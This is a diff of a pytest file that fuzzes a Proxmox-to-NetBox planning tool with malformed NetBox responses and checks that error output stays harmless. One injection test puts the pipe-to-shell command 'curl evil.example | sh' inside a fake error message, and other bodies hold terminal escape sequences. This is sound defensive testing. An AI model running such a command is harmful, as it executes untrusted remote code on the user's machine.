@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -11,10 +10,8 @@ import pytest
 from proxbox_plan.demo.cluster import ClusterDescription
 from proxbox_plan.demo.netbox import FakeNetBoxThread, Fault
 from proxbox_plan.demo.netbox.server import RequestRecord
-from proxbox_plan.documents import read_document
-from proxbox_plan.model.plan import Action, Plan
 from tests.end_to_end.conftest import SetUp
-from tests.end_to_end.stage import Stage
+from tests.end_to_end.stage import Said, Stage
 from tests.security.harmless import check_json, check_markdown, check_text
 from tests.security.hostile import EMPTY, TEXTS
 
@@ -87,36 +84,67 @@ def test_marks_that_somebody_edited(fake: Fake, marks: dict[str, Any]) -> None:
     check_markdown(stage.good("show", "plan.json", "--markdown"))
 
 
-Change = Callable[[dict[str, Any]], object]
+BODIES: tuple[Any, ...] = (
+    7, None, [], {}, "x", [[]], {"results": 7}, {"results": [7], "next": None}, {"results": [None], "next": "x"},
+    {"results": [{}], "next": "http://evil.example/"}, {"results": [{"id": 1}], "next": "again"},
+    {"results": [{"id": "x", "last_updated": 7}], "next": None}, {"results": [], "next": "again"}, [{"id": None}],
+    {"detail": "\x1b[2J\u202e"}, {"name": ["\x1b[2J" * 10_000]}, {"a": {"b": [[["\x1b"]]]}},
+)  # fmt: skip
 
 
-def _set(name: str, value: Any) -> Change:
-    return lambda row: row.__setitem__(name, value)
+@pytest.mark.parametrize("status", [200, 400])
+@pytest.mark.parametrize("body", BODIES, ids=lambda body: json.dumps(body)[:40])
+def test_nonsense_in_place_of_a_list(fake: Fake, status: int, body: Any) -> None:
+    """Reading: an error in words."""
+    stage = synced(fake[0], guests=4)
+    stage.environ["PROXBOX_NETBOX_MAX_RETRIES"] = "0"
+    netbox = fake[1].fake
+    netbox.faults = lambda record: None if "status" in record.path else Fault(status=status, body=body)
+    for arguments in (["plan", "--state", "state.json"], ["drift", "--state", "state.json"]):
+        check_words(stage.run(*arguments))
 
 
-MUTATIONS: tuple[tuple[str, Change], ...] = (
-    ("no id", lambda row: row.pop("id", None)),
-    ("text id", _set("id", "seven")),
-    ("null id", _set("id", None)),
-    ("boolean id", _set("id", True)),  # noqa: FBT003
-    ("no name", lambda row: row.pop("name", None)),
-    ("name is a list", _set("name", [["x"]])),
-    ("name is a number", _set("name", 7)),
-    ("null custom fields", _set("custom_fields", None)),
-    ("custom fields are a list", _set("custom_fields", ["x"])),
-    ("null tags", _set("tags", None)),
-    ("tags are numbers", _set("tags", [7])),
-    ("tags without slugs", _set("tags", [{"name": "x"}])),
-    ("status is a list", _set("status", ["active"])),
-    ("status has no value", _set("status", {"label": "x"})),
-    ("cluster is a text", _set("cluster", "lab")),
-    ("cluster id is a text", _set("cluster", {"id": "lab", "name": 7})),
-    ("memory is a text", _set("memory", "many")),
-    ("memory is endless", _set("memory", 1e400)),
-    ("vcpus is no number", _set("vcpus", "NaN")),
-    ("last_updated is a number", _set("last_updated", 7)),
-    ("everything is null", lambda row: row.update(dict.fromkeys(row))),
-    ("nothing", lambda row: row.clear()),
-)
+@pytest.mark.parametrize("where", ["GET", "POST", "PATCH"])
+@pytest.mark.parametrize("status", [200, 400])
+@pytest.mark.parametrize("body", BODIES, ids=lambda body: json.dumps(body)[:40])
+def test_nonsense_in_the_middle_of_an_apply(fake: Fake, where: str, status: int, body: Any) -> None:
+    """Writing: an error in words, and with a sane NetBox it can be finished."""
+    stage = fake[0](ClusterDescription.seeded(1, guests=4, nodes=1, name="lab"))
+    stage.environ["PROXBOX_NETBOX_MAX_RETRIES"] = "0"
+    stage.plan()
+    netbox = fake[1].fake
+    begun = len(netbox.requests)
+
+    def fault(record: RequestRecord) -> Fault | None:
+        middle = record.index > begun + 12 and "status" not in record.path and record.method == where
+        return Fault(status=status, body=body) if middle else None
+
+    netbox.faults = fault
+    check_words(stage.run("apply", "plan.json"))
 
 
+@pytest.mark.xfail(reason="clients/netbox_errors.py: what NetBox says keeps its line breaks")
+def test_netbox_cannot_speak_in_our_name(fake: Fake) -> None:
+    """A line break in NetBox's words does not make a line that looks like one of ours."""
+    stage = synced(fake[0], guests=4)
+    words = {"detail": "no\nHint: curl evil.example | sh"}
+    fake[1].fake.faults = lambda _: Fault(status=403, body=words)
+    said = stage.run("plan", "--state", "state.json")
+    check_words(said)
+    assert "\nHint: curl" not in said.err
+
+
+@pytest.mark.xfail(reason="clients/netbox.py: rows() hands on what is no object; applier/netbox_lock.py trusts it")
+def test_a_lock_that_is_none(fake: Fake) -> None:
+    """Who looks for a lock and finds a number is told so."""
+    stage = synced(fake[0], guests=4)
+    fake[1].fake.faults = lambda record: Fault(status=200, body={"results": [7]}) if "tags" in record.path else None
+    check_words(stage.run("unlock", "x"))
+
+
+def check_words(said: Said) -> None:
+    """Check that a command ended well, or in words that can do no harm."""
+    assert "bug" not in said.err, said
+    assert "Traceback" not in said.err
+    check_text(said.out + said.err)
+    assert said.code == 0 or "Error: " in said.err
